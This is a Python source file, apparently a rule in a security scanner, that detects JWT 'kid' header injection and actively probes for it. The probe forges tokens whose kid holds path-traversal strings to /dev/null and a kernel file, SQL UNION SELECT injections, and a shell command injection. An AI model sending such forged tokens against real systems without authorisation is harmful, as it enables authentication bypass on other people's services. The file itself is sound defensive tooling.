"""The name of a key becomes part of a path, a query or a command, so a token can choose a key that its writer knows."""

from collections.abc import Iterator
from collections.abc import Mapping as MappingType
from typing import Final

from stopper.core.app import App
from stopper.core.fact import SinkKind
from stopper.core.facts import SourceFacts, source_of
from stopper.core.finding import Evidence, Verdict
from stopper.core.place import Span
from stopper.core.probe import Steps, Target, failed, not_applicable, passed
from stopper.core.probing.baseline import controls
from stopper.core.probing.signature import any_signature, first_let_in, no_baseline, stepped_back, token_baseline
from stopper.core.probing.token_doors import elsewhere
from stopper.core.rule import Hit, Rule
from stopper.core.tokens.jwt_header import header_members, is_held
from stopper.core.values import Call, Item, Mapping, Member, Unknown, Value, walk

DIGIT: Final = "proc/sys/kernel/randomize_va_space"
"""Holds `2` and a line's end wherever addresses are laid out at random, as they are unless somebody turned that off (proc(5))."""
KID: Final = frozenset({"kid"})
SINKS: Final[dict[SinkKind, str]] = {
    "file-path": "the path of a file",
    "sql": "the text of a query",
    "subprocess": "a command",
    "outbound-url": "an address that the server fetches",
    "code": "code that is run",
}


def detect(app: App) -> Iterator[Hit]:
    """Paths, queries, commands and addresses that hold the `kid` of an unverified header."""
    facts = source_of(app)
    seen: set[Span] = set()
    if not facts.imports("jwt", "jose", "joserfc", "authlib", "jwcrypto", "flask_jwt_extended", "base64"):
        return
    for flow in facts.all_flows:
        if flow.sink not in SINKS or flow.span in seen or facts.is_test(flow.span):
            continue
        address = _without_query(flow.value) if flow.sink == "outbound-url" else flow.value
        if _holds_kid(facts, address) and not is_held(facts, KID, {flow.function, *_givers(facts, flow.function)}):
            seen.add(flow.span)
            yield Hit(f"the token's kid becomes part of {SINKS[flow.sink]}", flow.span)
    for value, span, function in _read_paths(facts):
        if span in seen or not _holds_kid(facts, value):
            continue
        if not is_held(facts, KID, {function, *_givers(facts, function)}):
            seen.add(span)
            yield Hit(f"the token's kid becomes part of {SINKS['file-path']}", span)


def _without_query(value: Value) -> Value:
    """``get(url, params={"kid": kid})``: what stands in a query does not change where the keys come from."""
    if isinstance(value, Unknown) and any(isinstance(part, Mapping) for part in value.parts):
        return Unknown(tuple(part for part in value.parts if not isinstance(part, Mapping)), value.span)
    return value


def _read_paths(facts: SourceFacts) -> Iterator[tuple[Value, Span, str]]:
    """``(Path("keys") / kid).read_text()``: what stands before the dot is the path."""
    for call in facts.calls("*.read_text", "*.read_bytes"):
        if call.receiver is not None and call.span is not None:
            yield call.receiver, call.span, call.function


def _holds_kid(facts: SourceFacts, value: Value) -> bool:
    """A look-up by the kid gives a value of our own, so only the kid itself counts."""
    found = list(header_members(facts, value, KID))
    inside = {id(part.key) for part in walk(value) if isinstance(part, Item)} if found else set[int]()
    named = {id(part) for one in (walk(value) if found else ()) if _is_last_part(one) for part in walk(one)}
    return any(id(one) not in inside and not {id(one), id(one.owner)} & named for one in found)


def _is_last_part(value: Value) -> bool:
    """``Path(kid).name``, which has no steps in it."""
    made = value.owner if isinstance(value, Member) and value.attribute in ("name", "stem") else None
    return isinstance(made, Call) and made.method in ("Path", "PurePath", "PurePosixPath")


def _givers(facts: SourceFacts, function: str) -> set[str]:
    return {call.function for call in facts.calls(function)} if function else set()


def probe(target: Target) -> Steps[Verdict]:
    """Names a file that everybody knows to be empty, and queries and commands that give a key of the scan's own."""
    verdict = yield from _at_the_first(target)
    kids = _kids(target)

    def misled(token: str, rights: MappingType[str, object]) -> Iterator[tuple[str, str]]:
        for kid, secret in kids if "kid" in target.forge.header(token) else ():
            yield f"whose kid is {kid!r}", target.forge.headed(token, secret, {"kid": kid}, **rights)

    return (yield from elsewhere(target, verdict, misled))


def _at_the_first(target: Target) -> Steps[Verdict]:
    baseline = yield from token_baseline(target)
    if baseline is None or baseline.identity.token is None:
        return no_baseline(target)
    token = baseline.identity.token.reveal()
    if "kid" not in target.forge.header(token):
        return not_applicable("the tokens carry no kid")
    if (yield from any_signature(target, baseline)):
        return stepped_back(baseline)
    forged = [(kid, target.forge.headed(token, secret, {"kid": kid})) for kid, secret in _kids(target)]
    seen = yield from first_let_in(baseline, forged)
    if seen is None:
        return passed(f"{baseline.ref} finds no key under a kid that was made up")
    message = f"{baseline.ref} accepts a token whose kid is {seen[0]!r}, signed with the key that this leads to"
    evidence = Evidence("exchange", "the same claims under that kid are accepted", seen[1])
    return failed(message, (baseline.ref,), (*controls(baseline), evidence))


def _kids(target: Target) -> list[tuple[str, bytes]]:
    """Names of keys, each with the key that it leads a careless server to. Some libraries refuse an empty one: that file of the kernel holds a
    digit on every machine."""
    word = target.canary or "stopper"
    up = "../" * 12
    return [
        (f"{up}dev/null", b""),
        ("/dev/null", b""),
        *((f"{up}{DIGIT}", key) for key in (b"2\n", b"2")),
        (f"x' UNION SELECT '{word}' -- ", word.encode()),
        (f"0 UNION SELECT '{word}' -- ", word.encode()),
        (f'x" UNION SELECT "{word}" -- ', word.encode()),
        (f"x; printf {word} #", word.encode()),
    ]


RULE = Rule(
    slug="jwt-kid-injection",
    family="jwt",
    title="The token's `kid` reaches a file path, SQL text, a shell or a URL",
    harm=__doc__ or "",
    severity="critical",
    check="authentication",
    cwe=(22, 89),
    owasp="API2:2023",
    asvs=("V9.1.3",),
    surfaces=("source", "wsgi", "http"),
    ends="Stopper's `@bearer` takes a kid for nothing but a name in its own key ring.",
    detect=detect,
    probe=probe,
)
